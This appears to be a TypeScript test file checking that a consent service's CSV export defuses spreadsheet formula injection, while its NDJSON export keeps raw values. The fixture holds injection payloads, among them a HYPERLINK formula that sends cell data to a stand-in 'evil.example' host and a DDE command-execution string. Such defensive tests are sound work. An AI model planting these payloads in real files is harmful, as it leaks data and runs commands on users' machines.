import { consentBody, openSession, publishedTerms, sessionBody } from '../support/signup';
import { createMerchant, startTestApp, type TestApp } from '../support/test-app';
import { parseCsv } from './csv';

/**
 * The merchant controls merchant_customer_id, acceptance_text and user_agent. A CSV field that starts with
 * `=`, `+`, `-`, `@`, tab or carriage return is a formula to Excel, LibreOffice and Google Sheets (CSV
 * injection): the export neutralises it as OWASP recommends, a leading `'` inside a quoted field. NDJSON
 * keeps the exact recorded values (that is what the hash chain covers).
 */
const HOSTILE = [
  {
    customer: '=HYPERLINK("https://evil.example/?"&A1,"open")',
    text: '=1+1 I agree',
    ua: '=cmd|" /C calc"!A0',
  },
  { customer: '+SUM(1+1)', text: '+I agree', ua: '+Mozilla/5.0' },
  { customer: '-2+3', text: '-I agree, really', ua: '-Mozilla/5.0' },
  { customer: '@SUM(1+1)', text: '@I agree', ua: '@Mozilla/5.0' },
  { customer: '\tcust-tab', text: '\tI agree', ua: '\tMozilla/5.0' },
  { customer: '\rcust-cr', text: '\rI agree', ua: '\rMozilla/5.0' },
];

describe('consent CSV export neutralises spreadsheet formulas (CSV injection)', () => {
  let t: TestApp;
  let merchantId: string;

  beforeAll(async () => {
    t = await startTestApp({ emulator: true });
    const m = await createMerchant(t, 'Formula Shop');
    merchantId = m.id;
    const terms = await publishedTerms(t, m.key);
    for (const h of [...HOSTILE, { customer: 'cust-plain', text: 'I agree', ua: 'Mozilla/5.0' }]) {
      const session = await openSession(
        t,
        m.key,
        sessionBody(terms.id, 'tokenize', { merchant_customer_id: h.customer }),
      );
      const res = await t.request('POST', `/v1/sessions/${session.id}/consents`, {
        key: m.key,
        body: { ...consentBody(terms.id), acceptance_text: h.text, user_agent: h.ua },
      });
      if (res.status !== 201) throw new Error(`consent: ${res.status} ${res.text}`);
    }
  });
  afterAll(async () => {
    await t.close();
  });

  it("prefixes the fields with ' and quotes them; other fields and NDJSON are unchanged", async () => {
    const csv = await t.request('GET', `/admin/v1/consents/export?format=csv&merchant_id=${merchantId}`, {
      key: t.auditorKey,
    });
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const records = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    expect(records).toHaveLength(HOSTILE.length + 1);

    for (const h of HOSTILE) {
      const record = records.find((r) => r.merchant_customer_id === `'${h.customer}`);
      expect(record).toBeDefined();
      expect(record!.acceptance_text).toBe(`'${h.text}`);
      expect(record!.user_agent).toBe(`'${h.ua}`);
      // Quoted as well, so that the ' and the value stay one field whatever the separator settings.
      expect(csv.text).toContain(`"'${h.customer.replace(/"/g, '""')}"`);
      expect(csv.text).toContain(`"'${h.text}"`);
    }
    // No field anywhere in the file starts a formula.
    for (const field of rows.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    const plain = records.find((r) => r.merchant_customer_id === 'cust-plain')!;
    expect(plain).toMatchObject({ acceptance_text: 'I agree', user_agent: 'Mozilla/5.0' });
    expect(csv.text).toContain(',cust-plain,');

    // NDJSON is the exact evidence: values as recorded, as the hash chain covers them.
    const nd = await t.request('GET', `/admin/v1/consents/export?format=ndjson&merchant_id=${merchantId}`, {
      key: t.auditorKey,
    });
    const lines = nd.text
      .trim()
      .split('\n')
      .map(
        (l) => JSON.parse(l) as { merchant_customer_id: string; acceptance_text: string; user_agent: string },
      );
    expect(lines.map((l) => l.merchant_customer_id).sort()).toEqual(
      [...HOSTILE.map((h) => h.customer), 'cust-plain'].sort(),
    );
    expect(lines.map((l) => l.user_agent).sort()).toEqual(
      [...HOSTILE.map((h) => h.ua), 'Mozilla/5.0'].sort(),
    );
  });
});
